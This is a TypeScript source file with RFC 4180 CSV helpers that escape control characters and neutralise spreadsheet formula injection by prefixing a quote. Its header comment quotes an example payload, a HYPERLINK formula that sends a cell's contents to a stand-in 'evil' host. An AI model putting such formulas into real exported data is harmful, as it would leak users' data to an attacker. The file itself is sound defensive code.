/**
 * A spreadsheet treats a cell that starts with = + - @ (or TAB/CR, which some strip first) as a
 * formula: a resource named `=HYPERLINK("https://evil/?"&A1)` would run when the CSV is opened.
 * Such cells get a leading single quote, the usual neutraliser (OWASP "CSV injection").
 */
const FORMULA_START = /^[=+\-@\t\r]/

/** Control characters other than TAB/CR/LF (terminal escapes, BEL …) are shown as `\uXXXX`. */
// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/g

/**
 * One RFC 4180 field: control characters made visible, formula-guarded, then quoted when it
 * holds a quote, comma or line break.
 */
export function csvCell(value: string | number | boolean | undefined): string {
  if (value === undefined) return ''
  let s = String(value).replace(CONTROL, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)
  if (typeof value === 'string' && FORMULA_START.test(s)) s = `'${s}`
  return /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s
}

/** One CSV record, CRLF-terminated as RFC 4180 asks. */
export function csvRow(values: readonly (string | number | boolean | undefined)[]): string {
  return values.map(csvCell).join(',') + '\r\n'
}
